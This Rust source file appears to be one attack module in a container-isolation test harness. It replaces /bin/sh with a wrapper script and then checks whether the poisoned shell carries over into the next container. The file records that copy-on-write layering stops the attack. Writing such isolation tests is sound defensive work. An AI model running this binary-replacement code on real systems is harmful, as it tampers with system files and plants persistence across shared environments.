//! Poisons /bin/sh for the next container, where all share one root directory.

use std::fs::{self, Permissions};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use crate::attack::{
    Argument, Arguments, Attack, OrStopped, Outcome, StoppedBy, Try,
};

pub const ATTACK: Attack = Attack {
    name: "replace-shell",
    tries: "replace /bin/sh for the next container",
    stopped: StoppedBy::Step(7),
    rule: "writes go to the container's own upper layer (copy-on-write)",
    source: "overlayfs.rst",
    arguments: &[
        Argument::new(
            "ACT",
            "plant",
            "plant; then, in the next container: check",
        ),
        Argument::new("TEXT", "pwned", "what the new shell says"),
    ],
    run,
};

const SHELL: &str = "/bin/sh";
const REAL: &str = "/bin/.real/sh";

fn run(arguments: &Arguments) -> Try {
    let text = arguments.text("TEXT")?;
    // The real one keeps its name: busybox looks at it.
    let poisoned = format!(
        "#!{REAL}\necho '{}' >&2\nexec {REAL} \"$@\"\n",
        text.replace('\'', "")
    );
    let now = fs::read(SHELL).or_stopped(format!("open({SHELL:?})"))?;
    match (arguments.text("ACT")?, now == poisoned.as_bytes()) {
        ("check", true) => Ok(Outcome::Worked(format!(
            "{SHELL} is ours, in this container too"
        ))),
        ("check", false) => {
            Ok(Outcome::Stopped(format!("{SHELL} is as it was")))
        }
        ("plant", _) => {
            plant(&poisoned).or_stopped(format!("replace {SHELL}"))?;
            Ok(Outcome::Done(format!(
                "{SHELL} is ours. In the next container: attack {} check",
                ATTACK.name
            )))
        }
        (act, _) => Ok(Outcome::CannotTry(format!(
            "{act:?} is neither plant nor check"
        ))),
    }
}

fn plant(poisoned: &str) -> std::io::Result<()> {
    if !Path::new(REAL).exists() {
        fs::create_dir_all("/bin/.real")?;
        fs::copy(SHELL, REAL)?;
    }
    // A link to busybox is replaced, not followed.
    fs::remove_file(SHELL)?;
    fs::write(SHELL, poisoned)?;
    fs::set_permissions(SHELL, Permissions::from_mode(0o755))
}
